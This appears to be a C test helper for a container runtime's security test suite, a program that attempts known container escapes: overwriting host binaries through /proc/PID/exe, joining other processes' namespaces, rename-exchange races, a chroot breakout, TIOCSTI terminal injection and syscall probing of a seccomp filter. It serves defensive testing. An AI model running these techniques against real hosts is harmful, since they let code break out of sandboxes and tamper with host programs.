/* What a hostile program inside a container tries; for tests/attacks.bats, linked statically.
 *
 *   attacker call NUMBER [ARG…]     one system call: prints the errno, 0 if it worked
 *   attacker calls                  every system call, with arguments that make no sense: what a filter says of each
 *   attacker exe SECONDS            writes to the file of every other program it meets in /proc (CVE-2019-5736)
 *   attacker look SECONDS           opens what /proc has of every other process, and joins its namespaces
 *   attacker swap SECONDS A B       exchanges two names, again and again (CVE-2021-30465, CVE-2025-31133)
 *   attacker escape                 leaves a chroot by its own means; prints a file of what it found: etc/hostname
 *   attacker type                   types into the terminal on standard input and into /dev/tty (CVE-2017-5226)
 *   attacker name NAME           gives itself a name, and waits
 *   attacker keyring                the serial number of its session keyring
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static time_t end;

static void until(const char *seconds) {
    end = time(NULL) + atoi(seconds);
    setvbuf(stdout, NULL, _IOLBF, 0);
    puts("up");
}

/* Calls `act` for every process but this one and the first, until the time is over. */
static void each_process(void (*act)(const char *pid)) {
    char own[16];
    snprintf(own, sizeof own, "%d", getpid());
    while (time(NULL) < end) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while (proc && (entry = readdir(proc)))
            if (isdigit(entry->d_name[0]) && strcmp(entry->d_name, own) && strcmp(entry->d_name, "1"))
                act(entry->d_name);
        if (proc) closedir(proc);
    }
}

/* The file is held by O_PATH and tried again for a while: as long as it is executed it is busy. */
static void write_exe(const char *pid) {
    char path[64], name[4096], again[64];
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    int held = open(path, O_PATH | O_CLOEXEC);
    if (held < 0) return;
    snprintf(again, sizeof again, "/proc/self/fd/%d", held);
    ssize_t length = readlink(again, name, sizeof name - 1);
    name[length < 0 ? 0 : length] = 0;
    /* What the container has of its own is no prey. A mount that is nowhere has a name like "/". */
    if (strcmp(name, "/attacker") && strncmp(name, "/bin/", 5)) {
        printf("met %s\n", name);
        for (int tries = 0; tries < 2000; tries++) {
            int file = open(again, O_WRONLY | O_APPEND | O_CLOEXEC);
            if (file >= 0) {
                if (write(file, "evil", 4) == 4) printf("WROTE %s\n", name);
                close(file);
                break;
            }
            if (errno != ETXTBSY) break;
            usleep(100);
        }
    }
    close(held);
}

/* Whether a process comes from outside still; its name in `comm`. Inside there is nothing but this program. */
static int is_foreign(const char *pid, char *comm) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/comm", pid);
    int file = open(path, O_RDONLY | O_CLOEXEC);
    if (file < 0) return 0;
    ssize_t length = read(file, comm, 31);
    close(file);
    comm[length < 0 ? 0 : length] = 0;
    comm[strcspn(comm, "\n")] = 0;
    return strcmp(comm, "attacker") != 0;
}

static void look_at(const char *pid) {
    static const char *const files[] = {"environ", "mem", "fd/0", "fd/3", "fd/4", "fd/5", "cwd", "root", "exe",
                                        "ns/mnt", "ns/pid", "ns/net", "ns/user"};
    char path[64], comm[32];
    if (!is_foreign(pid, comm)) return;
    printf("met %s\n", comm);
    for (size_t n = 0; n < sizeof files / sizeof *files; n++) {
        snprintf(path, sizeof path, "/proc/%s/%s", pid, files[n]);
        int file = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
        if (file < 0) continue;
        int joined = !strncmp(files[n], "ns/", 3) && setns(file, 0) == 0;
        close(file);
        /* What has become the container's own program meanwhile is its equal, and may be looked at. */
        if (is_foreign(pid, comm)) printf("GOT %s %s%s\n", comm, files[n], joined ? " JOINED" : "");
    }
}

static void swap(const char *a, const char *b) {
    unsigned long count = 0;
    while (time(NULL) < end)
        if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) == 0) count++;
    printf("swapped %lu\n", count);
}

static int escape(void) {
    char text[256];
    mkdir("escape", 0700);
    int outside = open(".", O_RDONLY | O_DIRECTORY);
    if (chroot("escape") < 0) return printf("chroot: %s\n", strerror(errno)), 1;
    if (fchdir(outside) < 0) return printf("fchdir: %s\n", strerror(errno)), 1;
    for (int n = 0; n < 64; n++)
        if (chdir("..") < 0) break;
    if (chroot(".") < 0) return printf("chroot: %s\n", strerror(errno)), 1;
    int file = open("etc/hostname", O_RDONLY);
    ssize_t length = file < 0 ? -1 : read(file, text, sizeof text);
    if (length > 0 && write(1, text, (size_t)length) < 0) return 1;
    return 0;
}

static void type_into(int fd, const char *name) {
    int worked = 0;
    for (const char *c = "typed\n"; *c; c++) worked += ioctl(fd, TIOCSTI, c) == 0;
    printf("%s: %s\n", name, worked ? "TYPED" : strerror(errno));
}

/* One call in a process of its own: some do not come back. */
static void say_call(const char *name, long number, unsigned long a, unsigned long b, unsigned long c) {
    int status = 0;
    pid_t pid = fork();
    if (pid == 0) {
        alarm(1);
        close(0), close(1), close(2);
        long result = syscall(number, a, b, c, -1L, -1L, -1L);
        _exit(result >= 0 ? 0 : errno == EPERM || errno == ENOSYS || errno == EIO ? errno : 0);
    }
    waitpid(pid, &status, 0);
    if (WIFSIGNALED(status) && WTERMSIG(status) == SIGSYS) printf("%s %ld killed\n", name, number);
    else printf("%s %ld %d\n", name, number, WIFEXITED(status) ? WEXITSTATUS(status) : 0);
}

static void say_calls(void) {
    setvbuf(stdout, NULL, _IONBF, 0);
    for (long number = 0; number < 480; number++) say_call("call", number, -1L, -1L, -1L);
    for (unsigned long family = 0; family < 48; family++) {
        char name[32];
        snprintf(name, sizeof name, "socket-%lu", family);
        say_call(name, SYS_socket, family, -1L, 0);
    }
    for (int bit = 7; bit < 32; bit++) {
        char name[32];
        snprintf(name, sizeof name, "clone-%d", bit);
        /* CLONE_THREAD without CLONE_VM: invalid, so that nothing is made where the filter lets it pass. */
        say_call(name, SYS_clone, 1UL << bit | CLONE_THREAD, 0, 0);
    }
    static const unsigned long personas[] = {0, 1, 8, 0x20000, 0x20008, 0xffffffff, 0x40000};
    for (size_t n = 0; n < sizeof personas / sizeof *personas; n++) say_call("personality", SYS_personality, personas[n], 0, 0);
    say_call("x32", 0x40000000 | 39, 0, 0, 0);
}

int main(int argc, char **argv) {
    const char *verb = argc > 1 ? argv[1] : "";
    if (!strcmp(verb, "call") && argc > 2) {
        unsigned long a[7] = {0};
        for (int n = 2; n < argc && n < 9; n++) a[n - 2] = strtoul(argv[n], NULL, 0);
        long result = syscall((long)a[0], a[1], a[2], a[3], a[4], a[5], a[6]);
        printf("%d\n", result < 0 ? errno : 0);
    } else if (!strcmp(verb, "calls")) {
        say_calls();
    } else if (!strcmp(verb, "exe") && argc == 3) {
        until(argv[2]), each_process(write_exe);
    } else if (!strcmp(verb, "look") && argc == 3) {
        until(argv[2]), each_process(look_at);
    } else if (!strcmp(verb, "swap") && argc == 5) {
        until(argv[2]), swap(argv[3], argv[4]);
    } else if (!strcmp(verb, "escape")) {
        return escape();
    } else if (!strcmp(verb, "type")) {
        type_into(0, "stdin");
        int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
        if (tty < 0) printf("/dev/tty: %s\n", strerror(errno));
        else type_into(tty, "/dev/tty");
    } else if (!strcmp(verb, "name") && argc > 2) {
        prctl(PR_SET_NAME, argv[2]);
        pause();
    } else if (!strcmp(verb, "keyring")) {
        printf("%ld\n", syscall(SYS_keyctl, 0, -3, 0));
    } else {
        fprintf(stderr, "attacker: no such attack\n");
        return 2;
    }
    return 0;
}
